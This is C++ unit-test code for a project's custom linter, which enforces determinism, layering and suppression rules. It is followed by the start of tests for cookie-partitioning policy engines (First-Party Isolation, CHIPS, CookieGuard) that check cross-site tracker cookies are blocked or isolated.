      *result.find("locations")->at(0).find("physicalLocation");
  EXPECT_EQ(location.find("artifactLocation")->find("uri")->as_string(),
            "src/crawler/visit.cpp");
  EXPECT_EQ(location.find("region")->find("startLine")->as_int(), 1);
}

// ---- self-hosting --------------------------------------------------------

// The repo must lint clean with ALL rules armed — the checked-in enum and
// metric registries attached — with zero unsuppressed violations, every
// suppression reasoned, no dead registry entries, and the full-tree scan
// comfortably inside the 2 s budget (CI gates harder via --max-ms 200).
TEST(SelfHostTest, RepositoryLintsCleanAndFast) {
  const std::filesystem::path root = CG_SOURCE_ROOT;
  ASSERT_TRUE(std::filesystem::exists(root / "lint" / "layering.txt"));

  const auto previous = std::filesystem::current_path();
  std::filesystem::current_path(root);

  std::string error;
  auto config = Config::load("lint/layering.txt", &error);
  ASSERT_TRUE(config.has_value()) << error;
  auto enums = NameRegistry::load("lint/enums.txt", &error);
  ASSERT_TRUE(enums.has_value()) << error;
  config->set_enum_registry(std::move(*enums));
  auto metrics = NameRegistry::load("lint/metrics.txt", &error);
  ASSERT_TRUE(metrics.has_value()) << error;
  config->set_metric_registry(std::move(*metrics));

  const auto start = std::chrono::steady_clock::now();  // cglint: allow(D1) — measuring the linter's own wall-clock budget is this test's purpose
  const LintReport report = cg::lint::lint_paths(
      *config, {"src", "bench", "examples", "tests", "tools"});
  const auto elapsed = std::chrono::steady_clock::now() - start;  // cglint: allow(D1) — measuring the linter's own wall-clock budget is this test's purpose

  std::filesystem::current_path(previous);

  for (const auto& violation : report.violations) {
    ADD_FAILURE() << violation.file << ":" << violation.line << ": ["
                  << violation.rule << "] " << violation.message;
  }
  for (const auto& entry : report.suppressed) {
    EXPECT_FALSE(entry.reason.empty())
        << entry.violation.file << ":" << entry.violation.line;
  }
  for (const auto& entry : report.unused_metric_entries) {
    ADD_FAILURE() << "lint/metrics.txt: unused metric entry '" << entry
                  << "'";
  }
  EXPECT_GT(report.files_scanned, 100);
  EXPECT_LT(std::chrono::duration<double>(elapsed).count(), 2.0);
}

// The tool's own determinism: linting the same tree twice formats
// byte-identically.
TEST(SelfHostTest, ReportFormattingIsDeterministic) {
  const std::filesystem::path root = CG_SOURCE_ROOT;
  const auto previous = std::filesystem::current_path();
  std::filesystem::current_path(root);

  std::string error;
  const auto config = Config::load("lint/layering.txt", &error);
  ASSERT_TRUE(config.has_value()) << error;
  const auto a = cg::lint::lint_paths(*config, {"src", "tools"});
  const auto b = cg::lint::lint_paths(*config, {"src", "tools"});
  std::filesystem::current_path(previous);

  EXPECT_EQ(cg::lint::format_report(a, true), cg::lint::format_report(b, true));
}

}  // namespace
