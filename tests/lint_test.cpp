// cglint tests: per-rule fixtures (positive hit, near-misses inside string
// literals and comments, suppressed hit, raw-string edge cases), the
// suppression grammar, layering-config validation, and a self-hosting run
// over the real repository tree.
#include <chrono>
#include <filesystem>
#include <string>
#include <string_view>

#include <gtest/gtest.h>

#include "lint/config.h"
#include "lint/lexer.h"
#include "lint/linter.h"

namespace {

using cg::lint::Config;
using cg::lint::LintReport;
using cg::lint::Token;
using cg::lint::TokenKind;

// A miniature layering universe for fixtures. webplat must not include
// crawler; report may consume analysis; jsoncore is carved out of report/.
constexpr std::string_view kFixtureConfig = R"cfg(
path src/report/json jsoncore
deps net:
deps jsoncore:
deps webplat: net
deps analysis: net
deps crawler: webplat analysis
deps report: analysis jsoncore
open tests
allow D1 under bench/
restrict D3 analysis report jsoncore store obs instrument
restrict W1 store crawler examples
)cfg";

const Config& fixture_config() {
  static const Config config = [] {
    std::string error;
    auto parsed = Config::parse(kFixtureConfig, &error);
    if (!parsed) ADD_FAILURE() << "fixture config: " << error;
    return parsed.value_or(Config{});
  }();
  return config;
}

LintReport run(const std::string& path, std::string_view source) {
  return lint_source(fixture_config(), path, source);
}

bool has_violation(const LintReport& report, const std::string& rule,
                   int line) {
  for (const auto& violation : report.violations) {
    if (violation.rule == rule && violation.line == line) return true;
  }
  return false;
}

// ---- lexer ---------------------------------------------------------------

TEST(LexerTest, ClassifiesCommentsStringsAndCode) {
  const auto tokens = cg::lint::lex(
      "int a; // line comment\n"
      "/* block */ const char* s = \"str\";\n");
  ASSERT_FALSE(tokens.empty());
  EXPECT_EQ(tokens[0].kind, TokenKind::kIdentifier);
  EXPECT_EQ(tokens[0].text, "int");
  int comments = 0;
  int strings = 0;
  for (const Token& token : tokens) {
    if (token.kind == TokenKind::kComment) ++comments;
    if (token.kind == TokenKind::kString) ++strings;
  }
  EXPECT_EQ(comments, 2);
  EXPECT_EQ(strings, 1);
}

TEST(LexerTest, RawStringSwallowsFakeTokensAndKeepsLineNumbers) {
  const auto tokens = cg::lint::lex(
      "const char* s = R\"lit(\n"
      "  system_clock rand( std::unordered_map \"\n"
      ")lit\";\n"
      "int after;\n");
  for (const Token& token : tokens) {
    if (token.kind == TokenKind::kString) continue;
    EXPECT_NE(token.text, "system_clock");
    EXPECT_NE(token.text, "unordered_map");
    if (token.text == "after") {
      EXPECT_EQ(token.line, 4);
    }
  }
}

TEST(LexerTest, DigitSeparatorIsNotACharLiteral) {
  const auto tokens = cg::lint::lex("int x = 1'000'000; int y = 2;\n");
  // If 1'000'000 were mis-lexed, the char literal would swallow "; int y".
  bool saw_y = false;
  for (const Token& token : tokens) saw_y = saw_y || token.text == "y";
  EXPECT_TRUE(saw_y);
}

TEST(LexerTest, ParsesIncludeTargets) {
  const auto tokens = cg::lint::lex(
      "#include \"obs/trace.h\"\n#include <vector>\n");
  ASSERT_EQ(tokens.size(), 2u);
  const auto quoted = cg::lint::parse_include(tokens[0]);
  ASSERT_TRUE(quoted.has_value());
  EXPECT_EQ(quoted->path, "obs/trace.h");
  EXPECT_TRUE(quoted->quoted);
  const auto angled = cg::lint::parse_include(tokens[1]);
  ASSERT_TRUE(angled.has_value());
  EXPECT_FALSE(angled->quoted);
}

// ---- D1: wall clock ------------------------------------------------------

TEST(RuleD1Test, FlagsWallClockUse) {
  const auto report = run("src/crawler/visit.cpp",
                          "void f() {\n"
                          "  auto t = std::chrono::system_clock::now();\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D1", 2));
}

TEST(RuleD1Test, FlagsLibcTimeCallButNotMembersNamedTime) {
  const auto report = run("src/crawler/visit.cpp",
                          "void f(Event e) {\n"
                          "  auto a = time(nullptr);\n"
                          "  auto b = e.time;\n"
                          "  e.time(3);\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D1", 2));
  EXPECT_FALSE(has_violation(report, "D1", 3));
  EXPECT_FALSE(has_violation(report, "D1", 4));
}

TEST(RuleD1Test, IgnoresStringAndCommentNearMisses) {
  const auto report = run("src/crawler/visit.cpp",
                          "// system_clock would break determinism\n"
                          "const char* s = \"system_clock\";\n"
                          "/* steady_clock too */\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleD1Test, SuppressionWithReasonCountsInCensus) {
  const auto report = run(
      "src/obs/wall.cpp",
      "auto t = std::chrono::steady_clock::now();  "
      "// cglint: allow(D1) — diagnostic lane\n");
  EXPECT_TRUE(report.violations.empty());
  ASSERT_EQ(report.suppressed.size(), 1u);
  EXPECT_EQ(report.suppressed[0].violation.rule, "D1");
  EXPECT_EQ(report.suppressed[0].reason, "diagnostic lane");
  EXPECT_EQ(report.suppression_census.at("D1"), 1);
}

TEST(RuleD1Test, BenchPathIsAllowlisted) {
  const auto report = run("bench/bench_x.cpp",
                          "auto t = std::chrono::steady_clock::now();\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_TRUE(report.suppressed.empty());  // allowlisted, not suppressed
}

// ---- D2: randomness ------------------------------------------------------

TEST(RuleD2Test, FlagsRandomDeviceAndEngines) {
  const auto report = run("src/corpus/gen.cpp",
                          "std::random_device rd;\n"
                          "std::mt19937 gen(rd());\n"
                          "int r = rand();\n");
  EXPECT_TRUE(has_violation(report, "D2", 1));
  EXPECT_TRUE(has_violation(report, "D2", 2));
  EXPECT_TRUE(has_violation(report, "D2", 3));
}

TEST(RuleD2Test, IgnoresNearMissesAndMembers) {
  const auto report = run("src/corpus/gen.cpp",
                          "// no rand() here\n"
                          "const char* s = \"std::random_device\";\n"
                          "auto v = rng.rand();\n"
                          "int operand(int x);\n");
  EXPECT_TRUE(report.violations.empty());
}

// ---- D3: unordered iteration hazard --------------------------------------

// The seeded analyzer bug: an unordered candidates map in analysis code
// (src/analysis/analyzer.cpp:206 before this PR). The rule must name the
// exact declaration line.
TEST(RuleD3Test, CatchesTheSeededAnalyzerHazard) {
  const auto report = run(
      "src/analysis/analyzer.cpp",
      "void Analyzer::ingest(const VisitLog& log) {\n"
      "  std::map<std::string, Owner> owner;\n"
      "  std::unordered_map<std::string, CookiePair> candidates;\n"
      "  candidates.try_emplace(\"k\", CookiePair{});\n"
      "}\n");
  EXPECT_TRUE(has_violation(report, "D3", 3));
  EXPECT_FALSE(has_violation(report, "D3", 2));
}

TEST(RuleD3Test, OutsideRestrictedModulesOnlyIterationIsFlagged) {
  const auto lookup_only = run(
      "src/crawler/sched.cpp",
      "int hits() {\n"
      "  std::unordered_map<int, int> cache;\n"
      "  return cache.count(3);\n"
      "}\n");
  EXPECT_TRUE(lookup_only.violations.empty());

  const auto iterated = run(
      "src/crawler/sched.cpp",
      "void dump() {\n"
      "  std::unordered_map<int, int> cache;\n"
      "  for (const auto& [k, v] : cache) emit(k, v);\n"
      "}\n");
  EXPECT_TRUE(has_violation(iterated, "D3", 3));

  const auto via_begin = run(
      "src/crawler/sched.cpp",
      "void scan() {\n"
      "  std::unordered_set<int> seen;\n"
      "  auto it = seen.begin();\n"
      "}\n");
  EXPECT_TRUE(has_violation(via_begin, "D3", 3));
}

TEST(RuleD3Test, StringCommentAndRawStringNearMisses) {
  const auto report = run(
      "src/analysis/doc.cpp",
      "// unordered_map iteration order is the enemy\n"
      "const char* a = \"std::unordered_map<k,v>\";\n"
      "const char* b = R\"(for (auto& x : unordered_set))\";\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleD3Test, SuppressibleWithReason) {
  const auto report = run(
      "src/store/index.cpp",
      "void build_index() {\n"
      "  // cglint: allow(D3) — drained in sorted key order before emission\n"
      "  std::unordered_map<std::string, int> sizes;\n"
      "}\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("D3"), 1);
}

// ---- D4: mutable static state --------------------------------------------

TEST(RuleD4Test, FlagsMutableFunctionLocalStatic) {
  const auto report = run("src/crawler/x.cpp",
                          "int f() {\n"
                          "  static int counter = 0;\n"
                          "  static const int k = 3;\n"
                          "  return ++counter + k;\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D4", 2));
  EXPECT_FALSE(has_violation(report, "D4", 3));
}

TEST(RuleD4Test, FlagsConstructorCallStatics) {
  // The pre-PR test-fixture pattern: static corpus::Corpus instance(params);
  const auto report = run("src/corpus/cache.cpp",
                          "const Corpus& corpus() {\n"
                          "  static corpus::Corpus instance(params);\n"
                          "  return instance;\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D4", 2));

  const auto const_ok = run("src/corpus/cache.cpp",
                            "const Corpus& corpus() {\n"
                            "  static const corpus::Corpus instance(params);\n"
                            "  return instance;\n"
                            "}\n");
  EXPECT_TRUE(const_ok.violations.empty());
}

TEST(RuleD4Test, FlagsMutableNamespaceScopeGlobals) {
  const auto report = run("src/crawler/x.cpp",
                          "namespace cg {\n"
                          "int visit_count = 0;\n"
                          "const int kLimit = 5;\n"
                          "constexpr char kName[] = \"x\";\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "D4", 2));
  EXPECT_FALSE(has_violation(report, "D4", 3));
  EXPECT_FALSE(has_violation(report, "D4", 4));
}

TEST(RuleD4Test, FlagsThreadLocalDefinitionNotExternDeclaration) {
  const auto definition = run("src/obs/t.cpp",
                              "thread_local LocalObs* tls_obs = nullptr;\n");
  EXPECT_TRUE(has_violation(definition, "D4", 1));

  const auto declaration = run("src/obs/t.h",
                               "extern thread_local LocalObs* tls_obs;\n");
  EXPECT_TRUE(declaration.violations.empty());
}

TEST(RuleD4Test, IgnoresStaticMemberFunctionsAndFileStaticFunctions) {
  const auto report = run(
      "src/net/url.h",
      "class Url {\n"
      " public:\n"
      "  static std::optional<Url> parse(std::string_view input);\n"
      "  static Url must_parse(std::string_view input);\n"
      "};\n"
      "static int helper(int x) { return x + 1; }\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleD4Test, FlagsMutableStaticInlineDataMember) {
  const auto report = run("src/crawler/x.h",
                          "struct Stats {\n"
                          "  static inline int live_instances = 0;\n"
                          "  static constexpr int kMax = 8;\n"
                          "};\n");
  EXPECT_TRUE(has_violation(report, "D4", 2));
  EXPECT_FALSE(has_violation(report, "D4", 3));
}

TEST(RuleD4Test, LambdaInitializedConstStaticIsClean) {
  const auto report = run(
      "src/corpus/cache.cpp",
      "const Params& params() {\n"
      "  static const Params p = [] {\n"
      "    Params q;\n"
      "    q.site_count = 40;\n"
      "    return q;\n"
      "  }();\n"
      "  return p;\n"
      "}\n");
  EXPECT_TRUE(report.violations.empty());
}

// ---- W1: unchecked ofstream ----------------------------------------------

TEST(RuleW1Test, FlagsUncheckedOfstreamInDurableOutputModules) {
  const auto report = run("src/store/dump.cpp",
                          "void dump(const std::string& path) {\n"
                          "  std::ofstream out(path);\n"
                          "  out << \"data\";\n"
                          "}\n");
  EXPECT_TRUE(has_violation(report, "W1", 2));
}

TEST(RuleW1Test, HealthCheckAnywhereInTheFileClears) {
  const auto bang = run("src/store/dump.cpp",
                        "bool dump(const std::string& path) {\n"
                        "  std::ofstream out(path);\n"
                        "  out << \"data\";\n"
                        "  return !out ? false : true;\n"
                        "}\n");
  EXPECT_TRUE(bang.violations.empty());

  const auto good = run("examples/tool.cpp",
                        "bool dump(const std::string& path) {\n"
                        "  std::ofstream out(path);\n"
                        "  out << \"data\";\n"
                        "  out.flush();\n"
                        "  return out.good();\n"
                        "}\n");
  EXPECT_TRUE(good.violations.empty());
}

TEST(RuleW1Test, OnlyAppliesToRestrictedModules) {
  const auto report = run("src/obs/dump.cpp",
                          "void dump(const std::string& path) {\n"
                          "  std::ofstream out(path);\n"
                          "  out << \"data\";\n"
                          "}\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleW1Test, ReferenceParametersAreNotOwners) {
  const auto report = run("src/store/dump.cpp",
                          "void emit(std::ofstream& out) { out << 1; }\n"
                          "void emit2(std::ofstream* out) { *out << 2; }\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleW1Test, NearMissesInStringsAndComments) {
  const auto report = run(
      "src/store/dump.cpp",
      "// std::ofstream out(path) would be flagged here\n"
      "const char* s = \"std::ofstream out\";\n");
  EXPECT_TRUE(report.violations.empty());
}

TEST(RuleW1Test, SuppressibleWithReason) {
  const auto report = run(
      "src/store/dump.cpp",
      "struct Sink {\n"
      "  // cglint: allow(W1) — every op on out_ is checked in the .cpp\n"
      "  std::ofstream out_;\n"
      "};\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("W1"), 1);
}

// ---- L1: layering --------------------------------------------------------

TEST(RuleL1Test, SeededLayeringViolationIsCaught) {
  // webplat must never include crawler: the dependency points the other way.
  const auto report = run("src/webplat/dom.cpp",
                          "#include \"webplat/dom.h\"\n"
                          "\n"
                          "#include \"crawler/crawler.h\"\n");
  EXPECT_TRUE(has_violation(report, "L1", 3));
  EXPECT_FALSE(has_violation(report, "L1", 1));  // own module is free
}

TEST(RuleL1Test, DeclaredEdgesAndOpenModulesPass) {
  const auto report_ok = run("src/report/report.cpp",
                             "#include \"analysis/analyzer.h\"\n"
                             "#include \"report/json.h\"\n");
  EXPECT_TRUE(report_ok.violations.empty());

  const auto tests_ok = run("tests/x_test.cpp",
                            "#include \"crawler/crawler.h\"\n"
                            "#include \"webplat/dom.h\"\n");
  EXPECT_TRUE(tests_ok.violations.empty());
}

TEST(RuleL1Test, PathOverrideCarvesJsoncoreOutOfReport) {
  // webplat may not include report, and indeed may not reach json either
  // (only obs may in the real config; here webplat lacks the edge).
  const auto bad = run("src/webplat/dom.cpp",
                       "#include \"report/json.h\"\n");
  EXPECT_TRUE(has_violation(bad, "L1", 1));

  // analysis → jsoncore is not declared in the fixture either, but
  // report → jsoncore is.
  const auto good = run("src/report/report.cpp",
                        "#include \"report/json.h\"\n");
  EXPECT_TRUE(good.violations.empty());
}

TEST(RuleL1Test, SuppressibleOnTheIncludeLine) {
  const auto report = run(
      "src/webplat/dom.cpp",
      "#include \"crawler/crawler.h\"  "
      "// cglint: allow(L1) — transitional; tracked in ISSUE\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("L1"), 1);
}

// ---- suppression grammar -------------------------------------------------

TEST(SuppressionTest, OwnLineAppliesToNextCodeLine) {
  const auto report = run(
      "src/crawler/x.cpp",
      "// cglint: allow(D1) — virtual deadline diagnostics only\n"
      "auto t = std::chrono::steady_clock::now();\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("D1"), 1);
}

TEST(SuppressionTest, MultiRuleAllowCoversBoth) {
  const auto report = run(
      "src/analysis/x.cpp",
      "// cglint: allow(D3,D4) — ordered drain audited in review\n"
      "static std::unordered_map<int, int> cache;\n");
  EXPECT_TRUE(report.violations.empty());
  EXPECT_EQ(report.suppression_census.at("D3"), 1);
  EXPECT_EQ(report.suppression_census.at("D4"), 1);
}

TEST(SuppressionTest, MissingReasonIsItsOwnViolation) {
  const auto report = run(
      "src/crawler/x.cpp",
      "auto t = std::chrono::steady_clock::now();  // cglint: allow(D1)\n");
  // The D1 hit is suppressed, but the reasonless suppression fails the run.
  EXPECT_TRUE(has_violation(report, "S2", 1));
  EXPECT_EQ(report.suppression_census.at("D1"), 1);
}

TEST(SuppressionTest, MalformedAnnotationIsReported) {
  const auto report = run("src/crawler/x.cpp",
                          "// cglint: alow(D1) — typo in the verb\n");
  EXPECT_TRUE(has_violation(report, "S1", 1));
}

TEST(SuppressionTest, WrongRuleDoesNotSuppress) {
  const auto report = run(
      "src/crawler/x.cpp",
      "auto t = std::chrono::steady_clock::now();  "
      "// cglint: allow(D2) — wrong rule\n");
  EXPECT_TRUE(has_violation(report, "D1", 1));
}

// ---- config --------------------------------------------------------------

TEST(ConfigTest, RejectsCyclicLayering) {
  std::string error;
  const auto config = Config::parse(
      "deps a: b\n"
      "deps b: c\n"
      "deps c: a\n",
      &error);
  EXPECT_FALSE(config.has_value());
  EXPECT_NE(error.find("cycle"), std::string::npos);
}

TEST(ConfigTest, RejectsUndeclaredDependency) {
  std::string error;
  const auto config = Config::parse("deps a: ghost\n", &error);
  EXPECT_FALSE(config.has_value());
  EXPECT_NE(error.find("undeclared"), std::string::npos);
}

TEST(ConfigTest, RejectsUnknownKeyword) {
  std::string error;
  const auto config = Config::parse("allowrule D1 everywhere\n", &error);
  EXPECT_FALSE(config.has_value());
}

TEST(ConfigTest, ModuleMappingAndOverrides) {
  std::string error;
  const auto config = Config::parse(
      "path src/report/json jsoncore\n"
      "deps jsoncore:\n"
      "deps report: jsoncore\n",
      &error);
  ASSERT_TRUE(config.has_value()) << error;
  EXPECT_EQ(config->module_of("src/report/report.cpp"), "report");
  EXPECT_EQ(config->module_of("src/report/json.h"), "jsoncore");
  EXPECT_EQ(config->module_of("bench/bench_fig2.cpp"), "bench");
  EXPECT_EQ(config->module_of("tools/cglint.cpp"), "tools");
}

// ---- self-hosting --------------------------------------------------------

// The repo must lint clean: zero unsuppressed violations, every suppression
// reasoned, and the full-tree scan comfortably inside the 2 s budget.
TEST(SelfHostTest, RepositoryLintsCleanAndFast) {
  const std::filesystem::path root = CG_SOURCE_ROOT;
  ASSERT_TRUE(std::filesystem::exists(root / "lint" / "layering.txt"));

  const auto previous = std::filesystem::current_path();
  std::filesystem::current_path(root);

  std::string error;
  const auto config = Config::load("lint/layering.txt", &error);
  ASSERT_TRUE(config.has_value()) << error;

  const auto start = std::chrono::steady_clock::now();  // cglint: allow(D1) — measuring the linter's own wall-clock budget is this test's purpose
  const LintReport report = cg::lint::lint_paths(
      *config, {"src", "bench", "examples", "tests", "tools"});
  const auto elapsed = std::chrono::steady_clock::now() - start;  // cglint: allow(D1) — measuring the linter's own wall-clock budget is this test's purpose

  std::filesystem::current_path(previous);

  for (const auto& violation : report.violations) {
    ADD_FAILURE() << violation.file << ":" << violation.line << ": ["
                  << violation.rule << "] " << violation.message;
  }
  for (const auto& entry : report.suppressed) {
    EXPECT_FALSE(entry.reason.empty())
        << entry.violation.file << ":" << entry.violation.line;
  }
  EXPECT_GT(report.files_scanned, 100);
  EXPECT_LT(std::chrono::duration<double>(elapsed).count(), 2.0);
}

// The tool's own determinism: linting the same tree twice formats
// byte-identically.
TEST(SelfHostTest, ReportFormattingIsDeterministic) {
  const std::filesystem::path root = CG_SOURCE_ROOT;
  const auto previous = std::filesystem::current_path();
  std::filesystem::current_path(root);

  std::string error;
  const auto config = Config::load("lint/layering.txt", &error);
  ASSERT_TRUE(config.has_value()) << error;
  const auto a = cg::lint::lint_paths(*config, {"src", "tools"});
  const auto b = cg::lint::lint_paths(*config, {"src", "tools"});
  std::filesystem::current_path(previous);

  EXPECT_EQ(cg::lint::format_report(a, true), cg::lint::format_report(b, true));
}

}  // namespace
