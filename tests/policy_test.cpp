// Policy-semantics tests for the pluggable cookie-partitioning engines
// (src/policy/): engine decisions in isolation, end-to-end behaviour through
// the browser's partitioned jar store, the determinism contract per policy,
// and the golden pin that `--policy none` is byte-identical to the
// pre-policy simulator.
#include <gtest/gtest.h>

#include <fstream>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "analysis/analyzer.h"
#include "browser/page.h"
#include "cookieguard/cookieguard.h"
#include "crawler/crawler.h"
#include "obs/metrics.h"
#include "policy/partition_policy.h"
#include "report/report.h"
#include "test_support.h"

namespace cg {
namespace {

using policy::CookieAccessContext;
using policy::PolicyKind;
using testsupport::TestSite;
using testsupport::context_for_url;

CookieAccessContext ctx_for(std::string top_level_site, const char* subject,
                            bool cross_site,
                            cookies::JarApi api = cookies::JarApi::kScript) {
  CookieAccessContext ctx;
  ctx.top_level_site = std::move(top_level_site);
  ctx.subject_url = net::Url::must_parse(subject);
  ctx.cross_site = cross_site;
  ctx.api = api;
  return ctx;
}

// ------------------------------------------------------ engine decisions --

TEST(PolicyKindTest, NamesRoundTripThroughParse) {
  for (const auto kind :
       {PolicyKind::kNone, PolicyKind::kCookieGuard,
        PolicyKind::kFirstPartyIsolation, PolicyKind::kChips}) {
    const auto parsed = policy::parse_policy(policy::to_string(kind));
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(*parsed, kind);
    EXPECT_EQ(policy::engine_for(kind).kind(), kind);
  }
  EXPECT_FALSE(policy::parse_policy("firefox").has_value());
  EXPECT_FALSE(policy::parse_policy("").has_value());
}

TEST(PolicyEngineTest, EnginesAreSharedSingletons) {
  // One stateless const instance per kind (determinism contract D4): every
  // worker on every crawl must get the same object.
  for (const auto kind :
       {PolicyKind::kNone, PolicyKind::kCookieGuard,
        PolicyKind::kFirstPartyIsolation, PolicyKind::kChips}) {
    EXPECT_EQ(&policy::engine_for(kind), &policy::engine_for(kind));
  }
}

TEST(PolicyEngineTest, SingleJarBlocksCrossSiteWithoutDefenseCredit) {
  // The post-third-party-cookie baseline refuses cross-site cookies under
  // *every* engine; that refusal must not be billed to the defense.
  for (const auto kind : {PolicyKind::kNone, PolicyKind::kCookieGuard}) {
    const auto& engine = policy::engine_for(kind);
    const auto store = engine.key_for_store(
        ctx_for("shop.example", "https://cdn.tracker.com/p", true,
                cookies::JarApi::kHttp));
    EXPECT_FALSE(store.allowed);
    EXPECT_FALSE(store.defense_block);
    const auto read = engine.key_for_read(
        ctx_for("shop.example", "https://cdn.tracker.com/p", true,
                cookies::JarApi::kHttp));
    EXPECT_FALSE(read.allowed);
    EXPECT_FALSE(read.defense_block);

    const auto same_site = engine.key_for_store(
        ctx_for("shop.example", "https://www.shop.example/", false));
    ASSERT_TRUE(same_site.allowed);
    EXPECT_EQ(same_site.key, cookies::PartitionKey());  // the classic jar
    EXPECT_EQ(engine.frame_jar_scope(), policy::FrameJarScope::kPage);
  }
}

TEST(PolicyEngineTest, FpiKeysEveryAccessByFirstPartyDomain) {
  const auto& fpi = policy::engine_for(PolicyKind::kFirstPartyIsolation);
  const auto store = fpi.key_for_store(
      ctx_for("shop.example", "https://www.shop.example/", false));
  ASSERT_TRUE(store.allowed);
  EXPECT_EQ(store.key, "fpi:shop.example");

  // Cross-site embeds are not blocked — they are isolated into the
  // embedding site's partition.
  const auto embedded = fpi.key_for_store(
      ctx_for("shop.example", "https://ads.tracker.com/frame", true));
  ASSERT_TRUE(embedded.allowed);
  EXPECT_EQ(embedded.key, "fpi:shop.example");

  const auto other = fpi.key_for_store(
      ctx_for("news.example", "https://news.example/", false));
  ASSERT_TRUE(other.allowed);
  EXPECT_NE(other.key, store.key);  // separation IS the isolation

  const auto read = fpi.key_for_read(
      ctx_for("shop.example", "https://www.shop.example/", false));
  ASSERT_TRUE(read.allowed);
  EXPECT_EQ(read.keys, std::vector<cookies::PartitionKey>{"fpi:shop.example"});
  EXPECT_EQ(fpi.frame_jar_scope(), policy::FrameJarScope::kBrowser);
}

TEST(PolicyEngineTest, FpiMissingAttributeIsFirefoxVerbatimError) {
  const auto& fpi = policy::engine_for(PolicyKind::kFirstPartyIsolation);
  const auto store =
      fpi.key_for_store(ctx_for("", "https://www.shop.example/", false));
  EXPECT_FALSE(store.allowed);
  EXPECT_EQ(store.error, policy::kFpiMissingAttributeError);
  EXPECT_TRUE(store.defense_block);

  const auto read =
      fpi.key_for_read(ctx_for("", "https://www.shop.example/", false));
  EXPECT_FALSE(read.allowed);
  EXPECT_EQ(read.error, policy::kFpiMissingAttributeError);
  EXPECT_TRUE(read.defense_block);

  EXPECT_EQ(policy::kFpiMissingAttributeError,
            "First-Party Isolation is enabled, but the required "
            "'firstPartyDomain' attribute was not set.");
}

TEST(PolicyEngineTest, ChipsPartitionsByTopLevelSite) {
  const auto& chips = policy::engine_for(PolicyKind::kChips);

  // Unpartitioned first-party cookies stay in the classic jar.
  const auto plain = chips.key_for_store(
      ctx_for("shop.example", "https://www.shop.example/", false));
  ASSERT_TRUE(plain.allowed);
  EXPECT_EQ(plain.key, cookies::PartitionKey());

  // A Partitioned cookie is keyed by the top-level site, even same-site.
  auto ctx = ctx_for("shop.example", "https://www.shop.example/", false);
  ctx.partitioned_attribute = true;
  const auto partitioned = chips.key_for_store(ctx);
  ASSERT_TRUE(partitioned.allowed);
  EXPECT_EQ(partitioned.key, "chips:shop.example");

  // Cross-site, Partitioned is the only way in...
  auto embedded = ctx_for("shop.example", "https://ads.tracker.com/f", true);
  embedded.partitioned_attribute = true;
  const auto embedded_store = chips.key_for_store(embedded);
  ASSERT_TRUE(embedded_store.allowed);
  EXPECT_EQ(embedded_store.key, "chips:shop.example");

  // ...and an unpartitioned third-party script store is a defense block.
  const auto blocked = chips.key_for_store(
      ctx_for("shop.example", "https://ads.tracker.com/f", true));
  EXPECT_FALSE(blocked.allowed);
  EXPECT_EQ(blocked.error, "unpartitioned third-party cookie blocked");
  EXPECT_TRUE(blocked.defense_block);

  // The same refusal over HTTP matches the phased-out baseline: no credit.
  const auto http_blocked = chips.key_for_store(
      ctx_for("shop.example", "https://ads.tracker.com/f", true,
              cookies::JarApi::kHttp));
  EXPECT_FALSE(http_blocked.allowed);
  EXPECT_FALSE(http_blocked.defense_block);
}

TEST(PolicyEngineTest, ChipsReadScopesAndVisibility) {
  const auto& chips = policy::engine_for(PolicyKind::kChips);

  // Top-level contexts consult the classic jar plus their own partition.
  const auto top = chips.key_for_read(
      ctx_for("shop.example", "https://www.shop.example/", false));
  ASSERT_TRUE(top.allowed);
  EXPECT_EQ(top.keys, (std::vector<cookies::PartitionKey>{
                          cookies::PartitionKey(), "chips:shop.example"}));

  // Cross-site contexts see only the embedding site's partition.
  const auto embedded = chips.key_for_read(
      ctx_for("shop.example", "https://ads.tracker.com/f", true));
  ASSERT_TRUE(embedded.allowed);
  EXPECT_EQ(embedded.keys,
            std::vector<cookies::PartitionKey>{"chips:shop.example"});

  // Belt and braces: even inside a readable partition, an unpartitioned
  // cookie is invisible cross-site.
  cookies::Cookie unpartitioned;
  cookies::Cookie partitioned;
  partitioned.partitioned = true;
  const auto cross = ctx_for("shop.example", "https://ads.tracker.com/f", true);
  EXPECT_FALSE(chips.visible(unpartitioned, cross));
  EXPECT_TRUE(chips.visible(partitioned, cross));
  const auto same = ctx_for("shop.example", "https://www.shop.example/", false);
  EXPECT_TRUE(chips.visible(unpartitioned, same));
}

// ------------------------------------------- end-to-end through the page --

TEST(PolicyBrowserTest, FpiSeparatesJarsByTopLevelSite) {
  TestSite site;
  site.browser().set_policy(
      &policy::engine_for(PolicyKind::kFirstPartyIsolation));

  auto page = site.open();
  const auto ctx = context_for_url("https://www.shop.example/app.js");
  page->run_as(ctx, [&](script::PageServices& services) {
    services.document_cookie_write(ctx, "sess=shop1; Path=/");
    EXPECT_EQ(services.document_cookie_read(ctx), "sess=shop1");
  });

  // The cookie lives in the fpi partition, not the classic default jar.
  EXPECT_EQ(site.browser().jar().size(), 0u);
  const auto* shop_jar = site.browser().jar_store().find("fpi:shop.example");
  ASSERT_NE(shop_jar, nullptr);
  EXPECT_EQ(shop_jar->size(), 1u);

  // A second top-level site in the same profile gets its own partition and
  // cannot see shop.example's session.
  auto other = site.browser().navigate(
      net::Url::must_parse("https://news.example/"));
  ASSERT_TRUE(other.ok());
  const auto news_ctx = context_for_url("https://news.example/app.js");
  other->run_as(news_ctx, [&](script::PageServices& services) {
